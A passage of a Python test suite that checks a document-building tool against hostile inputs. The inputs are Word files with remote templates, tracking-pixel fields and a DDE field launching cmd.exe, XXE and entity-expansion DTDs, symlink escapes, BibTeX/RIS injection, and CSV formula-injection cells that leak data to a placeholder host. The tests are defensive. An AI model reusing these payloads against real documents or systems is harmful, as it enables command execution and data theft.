        fresh(*HOUSE, "--format", "docx"),
        0,
        "",
        then=word_is_clean,
    )


IMAGE_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/image"
TEMPLATE_REL = (
    "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
)
word_case(
    "external relationship, double quotes",
    relation(
        RELS,
        f'<Relationship Id="rX1" Type="{IMAGE_REL}" Target="{{U}}/a.png" TargetMode="External"/>',
    ),
)
word_case(
    "external relationship, single quotes",
    relation(
        RELS,
        f"<Relationship Id='rX1' Type='{IMAGE_REL}' Target='{{U}}/a.png' TargetMode='External'/>",
    ),
)
word_case(
    "external relationship, entity-encoded",
    relation(
        RELS,
        f'<Relationship Id="rX1" Type="{IMAGE_REL}" Target="{{U}}/a.png" '
        'TargetMode="&#69;xternal"/>',
    ),
)
word_case(
    "external relationship, spaces around =",
    relation(
        RELS,
        f'<Relationship Id="rX1" Type="{IMAGE_REL}" Target="{{U}}/a.png" '
        'TargetMode = "External" />',
    ),
)
word_case(
    "remote attached template in the settings",
    relation(
        "word/_rels/settings.xml.rels",
        f'<Relationship Id="rT1" Type="{TEMPLATE_REL}" Target="{{U}}/t.dotm" '
        "TargetMode='&#x45;xternal'/>",
    ),
    in_part(
        "word/settings.xml",
        "<w:defaultTabStop",
        '<w:attachedTemplate xmlns:r="http://schemas.openxmlformats.org/officeDocument/'
        '2006/relationships" r:id="rT1"/><w:defaultTabStop',
    ),
)
word_case(
    "INCLUDEPICTURE field in the header",
    in_header(
        "<w:fldSimple w:instr='INCLUDEPICTURE \"{U}/pixel.png\" \\d'>"
        "<w:r><w:t>x</w:t></w:r></w:fldSimple>"
    ),
)
word_case(
    "INCLUDEPICTURE as a complex field in the header",
    in_header(
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>'
        'INCLUDEPICTURE "{U}/pixel.png"</w:instrText></w:r><w:r>'
        '<w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>result</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    ),
)
word_case(
    "DDE field in the footer",
    lambda parts, w: in_part(
        next(n for n in parts if n.startswith("word/footer")),
        "</w:p>",
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDEAUTO c:\\\\windows'
        '\\\\system32\\\\cmd.exe "/k calc"</w:instrText></w:r><w:r>'
        '<w:fldChar w:fldCharType="end"/></w:r></w:p>',
    )(parts, w),
)
word_case(
    "hyperlink to the outside in the header",
    relation(
        "word/_rels/" + "header1.xml.rels",
        '<Relationship Id="rH1" Type="http://schemas.openxmlformats.org/officeDocument/'
        '2006/relationships/hyperlink" Target="{U}/h" TargetMode="External"/>',
    ),
    in_header(
        '<w:hyperlink xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/'
        'relationships" r:id="rH1"><w:r><w:t> link</w:t></w:r></w:hyperlink>'
    ),
)
word_case(
    "macro project",
    added("word/vbaProject.bin", b"\xd0\xcf\x11\xe0 macros"),
    relation(
        RELS,
        '<Relationship Id="rV1" Type="http://schemas.microsoft.com/office/2006/'
        'relationships/vbaProject" Target="vbaProject.bin"/>',
    ),
    in_part(
        "[Content_Types].xml",
        "</Types>",
        '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>',
    ),
)
word_case(
    "embedded OLE object",
    added("word/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0 object"),
    relation(
        RELS,
        '<Relationship Id="rO1" Type="http://schemas.openxmlformats.org/'
        'officeDocument/2006/relationships/oleObject" Target="embeddings/oleObject1.bin"/>',
    ),
)
word_case(
    "picture bullet linked to the outside",
    relation(
        "word/_rels/numbering.xml.rels",
        f'<Relationship Id="rP1" Type="{IMAGE_REL}" Target="{{U}}/b.png" TargetMode="External"/>',
    ),
    in_part(
        "word/numbering.xml",
        "<w:abstractNum ",
        '<w:numPicBullet w:numPicBulletId="0"><w:pict><v:shape xmlns:v="urn:schemas-'
        'microsoft-com:vml"><v:imagedata xmlns:r="http://schemas.openxmlformats.org/'
        'officeDocument/2006/relationships" r:id="rP1"/></v:shape></w:pict>'
        "</w:numPicBullet><w:abstractNum ",
    ),
)
word_case(
    "theme fill linked to the outside",
    relation(
        "word/theme/_rels/theme1.xml.rels",
        f'<Relationship Id="rB1" Type="{IMAGE_REL}" Target="{{U}}/fill.png" '
        'TargetMode="External"/>',
    ),
    in_part(
        "word/theme/theme1.xml",
        "<a:bgFillStyleLst>",
        '<a:bgFillStyleLst><a:blipFill><a:blip xmlns:r="http://schemas.openxmlformats.org'
        '/officeDocument/2006/relationships" r:link="rB1"/></a:blipFill>',
    ),
)
word_case(
    "mail merge from the outside",
    in_part(
        "word/settings.xml",
        "<w:defaultTabStop",
        '<w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:dataType w:val="odso"/>'
        '<w:connectString w:val="{U}/data"/></w:mailMerge><w:defaultTabStop',
    ),
)
word_case(
    "a comment and a processing instruction in the styles",
    in_part(
        "word/styles.xml",
        "<w:docDefaults>",
        "<!-- {U}/comment --><?mso-application {U}/pi?><w:docDefaults>",
    ),
)
for name, declaration in (
    ("external entity", '<!DOCTYPE w:styles [<!ENTITY x SYSTEM "{X}">]>'),
    ("remote entity", '<!DOCTYPE w:styles [<!ENTITY x SYSTEM "{U}/e.xml">]>'),
    ("entity expansion", '<!DOCTYPE w:styles [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;">]>'),
):
    case(
        f"reference.docx: {name} in the styles",
        reference_docx(
            in_part("word/styles.xml", "<w:styles ", declaration + "<w:styles "),
        ),
        build(*HOUSE, "--format", "docx"),
        1,
        "Error: {P}/style/reference.docx: word/styles.xml declares a DTD (its entities "
        "could read files) (save it again from Word as a plain .docx)",
    )


# Control characters: no Word file can hold them; loading and `check` say where they are.
PROSE = "briefs/qiaotou/en.md"
CONTROL = "holds the control character {}, which no page or Word file can hold"


def in_prose(text: str) -> Setup:
    return lambda w: w.edit(PROSE, "# lessons\n", f"# lessons\n\nA stray {text} here.\n")


def prose_line(w: World) -> int:
    return w.line_of(PROSE, "A stray")


for name, raw, shown in (
    ("bell", "\x07", "U+0007"),
    ("NUL", "\x00", "U+0000"),
    ("vertical tab", "\x0b", "U+000B"),
    ("escape", "\x1b", "U+001B"),
    ("U+FFFE", "\ufffe", "U+FFFE"),
    ("U+FFFF", "\uffff", "U+FFFF"),
):
    case(
        f"control character in prose: raw {name}",
        in_prose(raw),
        build("--format", "docx"),
        1,
        lambda w, shown=shown: f"{PROSE}:{prose_line(w)}: {CONTROL.format(shown)} (delete "
        "it: often a stray byte from a copy and paste)",
    )
for written in ("&#xb;", "&#11;", "&#x0;", "&#xFFFE;", "&#xD800;", "&#x110000;", "&#x1B"):
    case(
        f"control character in prose: {written}",
        in_prose(written),
        check(),
        1,
        lambda w, written=written: f"{PROSE}:{prose_line(w)}: {written} writes a control "
        "character, which no Word file can hold (delete it)",
    )
for name, file, old, new in (
    ("an author", "briefs/qiaotou/brief.yaml", "en: Test Research Group", 'en: "Test\\x0bGroup"'),
    ("a chart title", "briefs/qiaotou/brief.yaml", "en: The park's output", 'en: "Out\\uFFFEput"'),
    ("a fact's label", "facts/qiaotou.yaml", "en: opening of the park", 'en: "bell \\a"'),
    ("a source's title", "facts/sources.yaml", 'en: "The Qiaotou', 'en: "\\v The Qiaotou'),
    ("a source's author", "facts/sources.yaml", "en: Park Management Committee", 'en: "P\\x1fM"'),
):
    shown = {
        "an author": "U+000B",
        "a chart title": "U+FFFE",
        "a fact's label": "U+0007",
        "a source's title": "U+000B",
        "a source's author": "U+001F",
    }[name]
    case(
        f"control character as a YAML escape in {name}",
        lambda w, file=file, old=old, new=new: w.edit(file, old, new),
        check(),
        1,
        lambda w, file=file, new=new, shown=shown: f"{file}:{w.line_of(file, new)}: "
        f"text {CONTROL.format(shown)} (delete the escape that writes it)",
    )
case(
    "control character raw in a YAML file",
    lambda w: w.edit("facts/qiaotou.yaml", "en: opening of the park", "en: opening\x08 of"),
    check(),
    1,
    lambda w: f"facts/qiaotou.yaml:{w.line_of('facts/qiaotou.yaml', 'opening')}: "
    f"{CONTROL.format('U+0008')} (delete it: often a stray byte from a copy and paste)",
)


# `changes` reads a git revision or an earlier build: hostile ones are messages.
def git_revision(link: str, target: str) -> Setup:
    """The project in a new git repository whose last commit holds the symlink ``link``
    to ``target``; the working tree without it (the current project loads)."""

    def setup(w: World) -> None:
        env = {
            **os.environ,
            "GIT_AUTHOR_NAME": "t",
            "GIT_AUTHOR_EMAIL": "t@t",
            "GIT_COMMITTER_NAME": "t",
            "GIT_COMMITTER_EMAIL": "t@t",
        }
        symlink(link, target)(w)
        for args in (["init", "-q"], ["add", "-A"], ["commit", "-q", "-m", "hostile"]):
            subprocess.run(
                ["git", "-C", str(w.project), *args], check=True, capture_output=True, env=env
            )
        (w.project / link).unlink()

    return setup


def changes(old: str) -> list[str]:
    return ["changes", old, "--project", "{P}", "-q"]


case(
    "changes: a revision with a symlink to an absolute path",
    git_revision("facts/stolen.yaml", "{X}"),
    changes("HEAD"),
    2,
    "Error: 'HEAD': 'facts/stolen.yaml' is a link to an absolute path (changes reads only "
    "the revision's own files)",
)
case(
    "changes: a revision with a symlink climbing out",
    git_revision("facts/stolen.yaml", "../../secret.txt"),
    changes("HEAD"),
    2,
    "Error: 'HEAD': 'facts/stolen.yaml' would link to '",
    ends="which is outside the destination (changes reads only the revision's own files)",
)


def snapshot_folder(text: str) -> Setup:
    def setup(w: World) -> None:
        folder = w.tmp / "old"
        folder.mkdir(exist_ok=True)
        (folder / ".policybrief-snapshot.json").write_text(text, encoding="utf-8")

    return setup


SNAP = "{P}/../old/.policybrief-snapshot.json"
for name, text, why in (
    (
        "facts a list",
        '{"version": 1, "facts": [], "claims": {}, "conflicts": {}, "briefs": {}}',
        "not a snapshot this version can read",
    ),
    (
        "no facts",
        '{"version": 1, "claims": {}, "conflicts": {}, "briefs": {}}',
        "not a snapshot this version can read",
    ),
    (
        "a fact a number",
        '{"version": 1, "facts": {"qiaotou.park.opened": 5}, "claims": {}, '
        '"conflicts": {}, "briefs": {}}',
        None,
    ),
    (
        "a brief a string",
        '{"version": 1, "facts": {}, "claims": {}, "conflicts": {}, "briefs": {"qiaotou": "x"}}',
        None,
    ),
    ("version 2", '{"version": 2}', "not a snapshot this version can read"),
    ("a list", "[1, 2]", "not a snapshot this version can read"),
):
    case(
        f"changes: a malformed snapshot, {name}",
        snapshot_folder(text),
        changes("{P}/../old"),
        2,
        f"Error: {SNAP}: " + (why or "not a snapshot this version can read ("),
        ends="" if why else ")",
    )


CHART = [
    "--project",
    "{P}",
    "--out",
    "{N}",
    "--brief",
    "qiaotou",
    "--audience",
    "full-report",
    "--lang",
    "en",
    "--format",
    "html",
    "-q",
]


# Privacy: an image is written again from its pixels; no metadata block survives, however
# the file hides it.
def _exif_jpeg(size: tuple[int, int] = (60, 40)) -> bytes:
    import io

    from PIL import Image

    exif = Image.Exif()
    exif[0x010F] = "SecretCamera"  # make
    exif[0x8825] = {1: "N", 2: (51.0, 30.0, 0.0)}  # GPS
    out = io.BytesIO()
    Image.new("RGB", size, (120, 30, 200)).save(out, "JPEG", exif=exif.tobytes(), comment=b"SECRET")
    return out.getvalue()


def _app1(payload: bytes) -> bytes:
    block = b"Exif\x00\x00" + payload
    return b"\xff\xe1" + (len(block) + 2).to_bytes(2, "big") + block


HIDDEN = {
    "EXIF in a second image after the first": lambda: _exif_jpeg() + _exif_jpeg((8, 8)),
    "an EXIF block after the end of the image": lambda: _exif_jpeg() + _app1(b"GPSSECRET"),
    "an EXIF block before the first": lambda: _exif_jpeg()[:2]
    + _app1(b"GPSSECRET")
    + _exif_jpeg()[2:],
    "a comment and EXIF": _exif_jpeg,
    "XMP after the scan": lambda: _exif_jpeg()
    + b"\xff\xe1\x00\x30http://ns.adobe.com/xap/1.0/\x00<x:GPSSECRET/>....",
}


def _published_image_is_clean(w: World) -> None:
    import base64

    page = (w.tmp / "new" / "qiaotou/full-report.en.html").read_text(encoding="utf-8")
    found = re.findall(r'src="data:image/jpeg;base64,([^"]+)"', page)
    assert found, "the picture is not on the page"
    for data in (base64.b64decode(d) for d in found):
        for secret in (b"SecretCamera", b"GPSSECRET", b"SECRET", b"Exif", b"http://ns.adobe"):
            assert secret not in data


for name, make in HIDDEN.items():
    case(
        f"image metadata: {name}",
        picture(
            "photo.jpg",
            lambda w, make=make: (w.project / "briefs/qiaotou/photo.jpg").write_bytes(make()),
        ),
        CHART,
        0,
        "",
        then=_published_image_is_clean,
    )


# Limits: a logo's pixels, a batch table's rows.
def _big_png(width: int, height: int) -> bytes:
    """A PNG declaring width × height pixels in a few kilobytes (one colour compresses)."""
    import io

    from PIL import Image

    out = io.BytesIO()
    Image.new("1", (width, height)).save(out, "PNG", optimize=True)
    return out.getvalue()


def logo_file(data: Callable[[], bytes], name: str = "logo.png") -> Setup:
    def setup(w: World) -> None:
        (w.project / "house" / name).write_bytes(data())
        w.write("house/theme.yaml", f"logo: {name}\n")

    return setup


case(
    "logo of 100 megapixels in a small PNG",
    logo_file(lambda: _big_png(10_000, 10_000)),
    check(),
    1,
    "house/theme.yaml:1: theme: logo: image 'logo.png' has 10000 × 10000 pixels; the limit "
    "is 4,000,000 in all (scale it down: about 2,000 pixels across is enough for a "
    "full-width image printed at 300 dpi)",
)
case(
    "logo that is not the PNG it claims",
    logo_file(lambda: b"GIF89a" + b"\x00" * 20),
    check(),
    1,
    "house/theme.yaml:1: theme: logo: image 'logo.png' is not a readable PNG file (save it "
    "again as PNG)",
)
case(
    "logo with a name over 255 bytes",
    lambda w: w.write("house/theme.yaml", "logo: " + "l" * 300 + ".png\n"),
    check(),
    1,
    "house/theme.yaml:1: theme: logo: the file name 'llllllllllllllllllllllll…' is 304 "
    "bytes long; a name may have at most 255 (rename the file)",
)


def batch(rows: int) -> Setup:
    """A batch brief ``members`` (tests/test_batch.py's) whose table has ``rows`` rows."""

    def setup(w: World) -> None:
        from test_batch import BATCH

        for name, text in BATCH.items():
            w.write(name, text)
        row = (
            "  - slug: p{n}\n    name: {{zh: 甲, en: A}}\n    kind: {{zh: 乙, en: B}}\n"
            "    team: qiaotou.staff.2016\n"
        )
        w.write(
            "briefs/members/rows.yaml", "rows:\n" + "".join(row.format(n=n) for n in range(rows))
        )

    return setup


case(
    "batch table of 20,000 rows",
    batch(20_000),
    check(),
    1,
    "briefs/members/rows.yaml:4002: the table has 20,000 rows; the limit is 1,000 (split it "
    "into several batch briefs, each with its own table)",
)
case(
    "batch table named with over 255 bytes",
    both(
        batch(1),
        lambda w: w.edit("briefs/members/brief.yaml", "rows: rows.yaml", "rows: " + "r" * 300),
    ),
    check(),
    1,
    lambda w: f"briefs/members/brief.yaml:{w.line_of('briefs/members/brief.yaml', 'rows: r')}: "
    "batch: table: the file name 'rrrrrrrrrrrrrrrrrrrrrrrr…' is 300 bytes long; a name may "
    "have at most 255 (rename the file)",
)
case(
    "row() naming no column points at brief.yaml",
    both(
        batch(1),
        lambda w: w.edit(
            "briefs/members/en.md", "It follows the region's plan.", "It is {{ row('nope') }}."
        ),
    ),
    check(),
    1,
    lambda w: f"briefs/members/en.md:{w.line_of('briefs/members/en.md', 'nope')}: 'nope' is "
    "not a text column of this brief's batch row (the text columns are listed under batch: "
    "text: in brief.yaml)",
)

# Long names, each at the line that writes it.
LONG = "a" * 300
case(
    "source file named with over 255 bytes",
    lambda w: w.edit("facts/sources.yaml", "file: qiaotou.txt", f"file: {LONG}.txt"),
    check(),
    1,
    lambda w: f"facts/sources.yaml:{w.line_of('facts/sources.yaml', 'file: aaa')}: source "
    "'qiaotou-case': the file name 'aaaaaaaaaaaaaaaaaaaaaaaa…' is 304 bytes long; a name may "
    "have at most 255 (rename the file)",
)
case(
    "audience template named with over 255 bytes",
    lambda w: w.edit("house/audiences.yaml", "template: field-card.html", f"template: {LONG}.html"),
    check(),
    1,
    lambda w: f"house/audiences.yaml:{w.line_of('house/audiences.yaml', 'template: aaa')}: "
    "audience 'field-card': template: the file name 'aaaaaaaaaaaaaaaaaaaaaaaa…' is 305 bytes "
    "long; a name may have at most 255 (rename the file)",
)
case(
    "template included by a name over 255 bytes",
    front('{% include "' + LONG + '.html" %}'),
    build(*HOUSE),
    1,
    f"Error: style/decision-makers.html:2: template '{LONG}.html' not found (looked in "
    "style, house, templates, the built-in templates; names are relative to a template folder)",
)
case(
    "output folder named with over 255 bytes",
    None,
    ["--project", "{P}", "--out", "{P}/../" + LONG, *BRIEF, "-q"],
    1,
    lambda w: f"Error: {w.tmp / LONG}: file name too long",
)
case(
    "prose image named with over 255 bytes",
    picture(LONG + ".png"),
    build(),
    1,
    picture_error(
        f"image '{LONG}.png' not found in briefs/qiaotou/ (check the name; it is case-sensitive)"
    ),
)

# Messages that named the wrong place, and a flag that was ignored.
case(
    "--sources naming no folder",
    None,
    check("--sources", "{P}/no-such-folder"),
    2,
    "Error: --sources {P}/no-such-folder: no such folder",
)
case(
    "--sources naming a file",
    None,
    check("--sources", "{P}/pyproject.toml"),
    2,
    "Error: --sources {P}/pyproject.toml: not a folder",
)
case(
    "sources.yaml that does not parse blames no fact",
    lambda w: w.edit("facts/sources.yaml", "sources:", "sources: ["),
    check(),
    1,
    "facts/sources.yaml:3: invalid YAML: did not find expected ',' or ']' (check indentation, "
    "colons and quotes)",
    ends="",
)
case(
    "invalid TOML at its line",
    lambda w: w.edit("pyproject.toml", 'source_texts = "sources"', 'source_texts = "sources'),
    check(),
    1,
    "pyproject.toml:2: invalid TOML: Illegal character '\\n'",
)

# Files readers download: reference exports and chart data, read back as their readers do.
QIAOTOU_TITLE = "zh: 桥头镇数字产业园案例"  # (the export is in the source's language)


def _exports_read_back(w: World) -> None:
    import rispy
    from pybtex.database import parse_string
    from test_exports import bibtex_depths_balance

    folder = w.tmp / "new" / "qiaotou"
    bibtex_depths_balance((folder / "references.bib").read_text(encoding="utf-8"))
    bib = parse_string((folder / "references.bib").read_text(encoding="utf-8"), "bibtex")
    ris = rispy.loads((folder / "references.ris").read_text(encoding="utf-8"))
    ids = sorted(bib.entries)
    assert ids == sorted(r["id"] for r in ris), (ids, ris)
    assert "qiaotou-case" in ids and all(
        i in ("qiaotou-case", "qiaotou-internal") or "-" in i for i in ids
    )
    entry = bib.entries["qiaotou-case"]
    assert "forged" not in entry.fields and "note" not in entry.fields
    assert not [
        k
        for k in entry.fields
        if k
        not in (
            "title",
            "howpublished",
            "publisher",
            "url",
            "urldate",
            "year",
            "date",
            "langid",
            "doi",
            "institution",
        )
    ], entry.fields
    assert len(ris) == len(bib.entries)
    for record in ris:
        assert record["type_of_reference"] != "JOUR" or record["id"] != "forged"


for name, old, new in (
    ("a lone } in a title", QIAOTOU_TITLE, 'zh: "A } , forged = {x"'),
    ("braces that close the entry", QIAOTOU_TITLE, 'zh: "A }}\\n@misc{forged, title={x}}"'),
    ("a backslash before a brace", QIAOTOU_TITLE, 'zh: "A \\\\} , forged = {x"'),
    (
        "a newline in an author",
        "authors:\n      - {literal: 园区管委会}",
        'authors:\n      - {literal: "Park\\nER  - \\nTY  - JOUR\\nID  - forged"}',
    ),
    (
        "a newline in a title",
        QIAOTOU_TITLE,
        'zh: "A\\r\\nER  - \\r\\nTY  - JOUR\\r\\nID  - forged"',
    ),
    ("a line separator in a title", QIAOTOU_TITLE, 'zh: "A\\u2028ER  - \\u2028TY  - JOUR"'),
    (
        "' and ' in a family name",
        "authors:\n      - {literal: 园区管委会}",
        'authors:\n      - {family: "Wang and forged", given: Li}',
    ),
):
    case(
        f"reference export: {name}",
        lambda w, old=old, new=new: w.edit("facts/sources.yaml", old, new),
        fresh(),
        0,
        "",
        then=_exports_read_back,
    )

BAD_ID = "source id {!r} may hold only letters, digits, '-', '_', ':' and '.' (it names the source in citations and reference managers' files: write it like qiaotou-case)"
for name, written, shown in (
    ("a brace", '"bad}id"', "bad}id"),
    ("a comma", '"bad,id"', "bad,id"),
    ("a space", '"bad id"', "bad id"),
    ("a newline", '"bad\\nTY  - JOUR"', "bad\nTY  - JOUR"),
    ("an @", '"@misc"', "@misc"),
    ("over 100 characters", "i" * 101, "i" * 101),
):
    case(
        f"source id with {name}",
        lambda w, written=written: w.edit(
            "facts/sources.yaml", "  qiaotou-case:", f"  {written}:\n    title: x\n  qiaotou-case:"
        ),
        check(),
        1,
        lambda w,
        shown=shown: f"facts/sources.yaml:{w.line_of('facts/sources.yaml', 'qiaotou-case:') - 2}: "
        + BAD_ID.format(shown),
    )


def _csv_cells_are_text(w: World) -> None:
    import csv

    files = sorted((w.tmp / "new" / "qiaotou").glob("*.en.csv"))
    assert files
    for path in files:
        rows = list(csv.reader(path.read_text(encoding="utf-8-sig").splitlines()))
        cells = [cell for row in rows for cell in row]
        assert any(cell.startswith("'") for cell in cells), path
        for cell in cells:
            if cell.startswith(("=", "+", "-", "@", "\t", "\r")):
                float(cell)  # only a plain number may start so


for name, text in (
    ("=", '=HYPERLINK("{U}/leak?"&A1,"Click")'),
    ("+", "+1+cmd|' /C calc'!A0"),
    ("-", "-2+3+cmd|' /C calc'!A0"),
    ("@", "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("a tab", "\\t=1+1"),
):
    case(
        f"chart CSV cell starting with {name}",
        lambda w, text=text: w.edit(
            "facts/sources.yaml",
            "en: Park Management Committee",
            'en: "' + text.replace('"', '\\"') + '"',
        ),
        CHART,
        0,
        "",
        then=_csv_cells_are_text,
    )

case(
    "Word: a house page template writing a control character",
    front("<p>bell &#7; tab &#xb; nul &#0; U+FFFE &#xfffe;</p>"),
    fresh(*HOUSE, "--format", "docx"),
    0,
    "",
    then=lambda w: __import__("docx").Document(str(w.tmp / "new" / WORD)),
)


def _run(world: World, item: Case, capsys) -> tuple[int, str]:
    argv = [world.sub(a) for a in item.argv]
    if item.subprocess:
        result = subprocess.run(
            [sys.executable, str(ROOT / "build.py"), *argv],
            capture_output=True,
            text=True,
            timeout=120,
        )
        return result.returncode, result.stdout + result.stderr
    try:
        code = cli.main(argv)
    except SystemExit as exc:  # argparse
        code = exc.code
    captured = capsys.readouterr()
    return code, captured.err


@pytest.mark.parametrize("name", list(CASES))
def test_hostile_input(world, listener, capsys, name):
    item = CASES[name]
    if item.setup:
        item.setup(world)
    before = snapshot(world.out)
    secret = world.secret.stat()  # (not read: reading it would move its access time)
    listener.requests.clear()
    code, err = _run(world, item, capsys)
    assert "Traceback" not in err, err
    expected = item.first(world) if callable(item.first) else world.sub(item.first)
    lines = [line for line in err.splitlines() if line.strip()]
    first = lines[0] if lines else ""
    if item.ends:  # (a page's length, which the built-in templates decide)
        assert first.startswith(expected) and first.endswith(item.ends), err
        first = expected
    assert (code, first) == (item.code, expected), err
    if item.changes_out:
        for path in item.keep:
            assert (world.out / path).read_text(encoding="utf-8") == "mine"
        assert {k: v for k, v in snapshot(world.out).items() if not k.startswith(".")} == {
            k: v for k, v in before.items() if not k.startswith(".")
        }
    else:
        assert snapshot(world.out) == before
    if item.then:
        item.then(world)
    assert listener.requests == []
    now = world.secret.stat()
    assert (now.st_atime_ns, now.st_mtime_ns) == (secret.st_atime_ns, secret.st_mtime_ns), (
        "the secret was read or changed"
    )
    assert world.secret.read_text(encoding="utf-8") == SECRET


def test_the_corpus_is_large_enough():
    assert len(CASES) >= 60


def test_a_slow_template_is_stopped(world, monkeypatch, capsys):
    """A loop that never uses range() is stopped by the render deadline."""
    monkeypatch.setattr(render, "MAX_SECONDS", 1)
    front(
        '{% for a in "x" * 5000 %}{% for b in "x" * 5000 %}{% for c in "x" * 5000 %}'
        "{% endfor %}{% endfor %}{% endfor %}"
    )(world)
    before = snapshot(world.out)
    code = cli.main([world.sub(a) for a in build(*HOUSE)])
    err = capsys.readouterr().err
    assert code == 1
    assert err.splitlines()[0] == (
        "Error: style/decision-makers.html:2: template error: "
        "rendering took longer than 1 s (a loop without end?)"
    )
    assert snapshot(world.out) == before


# -- the commit is all or nothing -------------------------------------------------------------


def _edit_prose(world: World) -> None:
    """A change that makes the next build rewrite the page, the index and the fact base."""
    world.edit("briefs/qiaotou/en.md", 'title: "Qiaotou:', 'title: "Qiaotou (new):')


@pytest.mark.parametrize("failure", ["disk full", "interrupt"])
@pytest.mark.parametrize("at", [1, 2, 4])
def test_a_failed_commit_puts_everything_back(world, monkeypatch, capsys, failure, at):
    _edit_prose(world)
    before = snapshot(world.out)
    real = os.replace
    calls = []

    def replace(src, dst):
        calls.append(dst)
        if len(calls) == at:
            if failure == "interrupt":
                raise KeyboardInterrupt
            raise OSError(28, "No space left on device")
        return real(src, dst)

    monkeypatch.setattr(write.os, "replace", replace)
    code = cli.main([world.sub(a) for a in build()])
    err = capsys.readouterr().err
    monkeypatch.setattr(write.os, "replace", real)
    assert len(calls) >= at
    if failure == "interrupt":
        assert (code, err.splitlines()[0]) == (130, f"Error: interrupted; {world.out}/ unchanged")
    else:
        assert code == 1
        assert err.splitlines()[0].startswith(f"Error: {world.out}/")
        assert err.splitlines()[0].endswith(
            ": cannot write: No space left on device (free some space and build again)"
        )
    assert snapshot(world.out) == before
    assert not [p for p in (world.out / ".staging").iterdir()]


KILL_AT_THIRD_RENAME = """
import os, sys
from policybrief.cli import main as cli
from policybrief.build import staging as write
real, calls = os.replace, []
def replace(src, dst):
    calls.append(dst)
    if len(calls) == 3:
        os._exit(9)  # as if killed: nothing of ours runs after this
    return real(src, dst)
write.os.replace = replace
cli.main(sys.argv[1:])
"""


def test_a_commit_killed_halfway_is_rolled_back_by_the_next_build(world, capsys):
    """The process dies in the middle of the swap: its journal stays behind, and the next
    build into the folder puts the old files back before it does anything else."""
    _edit_prose(world)
    before = snapshot(world.out)
    result = subprocess.run(
        [sys.executable, "-c", KILL_AT_THIRD_RENAME, *[world.sub(a) for a in build()]], cwd=ROOT
    )
    assert result.returncode == 9
    assert snapshot(world.out) != before, "two files were swapped in"
    write.sweep(world.out)
    assert snapshot(world.out) == before
    assert not list((world.out / ".staging").iterdir())
    assert cli.main([world.sub(a) for a in build()]) == 0
    assert "Qiaotou (new)" in (world.out / "index.html").read_text(encoding="utf-8")


def _mount(path: Path, options: str) -> None:
    path.mkdir(parents=True, exist_ok=True)
    result = subprocess.run(
        ["mount", "-t", "tmpfs", "-o", options, "tmpfs", str(path)], capture_output=True, text=True
    )
    if result.returncode:
        pytest.skip(f"cannot mount a tmpfs here: {result.stderr.strip()}")


@pytest.fixture
def tmpfs(tmp_path):
    mounted = tmp_path / "tmpfs"
    _mount(mounted, "size=1m")
    yield mounted
    subprocess.run(["umount", "-l", str(mounted)], check=False)


def test_full_disk_leaves_the_last_good_build(world, tmpfs, capsys):
    out = tmpfs / "out"
    argv = [world.sub(a) for a in build()]
    argv[argv.index(str(world.out))] = str(out)
    assert cli.main(argv) == 0
    _edit_prose(world)
    # Fill the disk but for a few KiB: the new page cannot even be staged.
    free = os.statvfs(tmpfs).f_bavail * os.statvfs(tmpfs).f_frsize
    filler = tmpfs / "filler"
    filler.write_bytes(b"\0" * (free - 8192))
    capsys.readouterr()
    before = snapshot(out)
    assert cli.main(argv) == 1
    first = capsys.readouterr().err.splitlines()[0]
    assert first.startswith(f"Error: {out}/") and first.endswith(
        "No space left on device (free some space and build again)"
    ), first
    assert snapshot(out) == before
    filler.unlink()
    assert cli.main(argv) == 0  # with room again, the build goes through
    assert "Qiaotou (new)" in (out / "index.html").read_text(encoding="utf-8")


def test_read_only_filesystem(world, tmpfs, capsys):
    out = tmpfs / "out"
    argv = [world.sub(a) for a in build()]
    argv[argv.index(str(world.out))] = str(out)
    assert cli.main(argv) == 0
    _edit_prose(world)
    before = snapshot(out)
    subprocess.run(["mount", "-o", "remount,ro", str(tmpfs)], check=True)
    try:
        capsys.readouterr()
        assert cli.main(argv) == 1
        assert capsys.readouterr().err.splitlines()[0] == (
            f"Error: {out}: cannot write: Read-only file system (choose a writable folder "
            "with --out)"
        )
        assert snapshot(out) == before
    finally:
        subprocess.run(["mount", "-o", "remount,rw", str(tmpfs)], check=False)


def test_read_only_output_folder(world, capsys):
    """Root ignores permission bits, so the folder is made immutable instead."""
    before = snapshot(world.out)
    _edit_prose(world)
    if subprocess.run(["chattr", "+i", str(world.out)], capture_output=True).returncode:
        pytest.skip("chattr +i is not available here")
    try:
        assert cli.main([world.sub(a) for a in build()]) == 1
        assert capsys.readouterr().err.splitlines()[0] == (
            f"Error: {world.out}/.policybrief-cache.json: cannot write: Operation not "
            "permitted (choose a writable folder with --out)"
        )
    finally:
        subprocess.run(["chattr", "-i", str(world.out)], check=True)
    assert snapshot(world.out) == before


def _default_sigint() -> None:
    """Ctrl-C's default action in the child: a shell script's background job (``pytest &``,
    nohup) starts with SIGINT ignored, and Python would then never see the signal."""
    signal.signal(signal.SIGINT, signal.SIG_DFL)


def test_ctrl_c_says_so_and_changes_nothing(world):
    """SIGINT at moments spread over a build: exit 130, one line, no traceback, and the
    output folder either as it was or (if the signal came after the swap) the new build.
    The moments are fractions of a timed build of the same edit; when a busy machine made
    that one slow and the first signal came after the build had ended, the round is timed
    and run again from the same output folder (at most three rounds)."""
    _edit_prose(world)
    before = snapshot(world.out)
    pristine = world.tmp / "pristine"
    shutil.copytree(world.out, pristine)
    argv = [sys.executable, str(ROOT / "build.py"), *[world.sub(a) for a in build()]]
    scratch = world.tmp / "scratch"
    timing = [*argv]
    timing[timing.index(str(world.out))] = str(scratch)
    interrupted = 0
    for _round in range(3):
        for folder in (scratch, world.out):
            shutil.rmtree(folder, ignore_errors=True)
            shutil.copytree(pristine, folder)
        started = time.perf_counter()
        subprocess.run(timing, check=True, capture_output=True)
        duration = time.perf_counter() - started
        for fraction in (0.4, 0.55, 0.7, 0.85, 0.95):
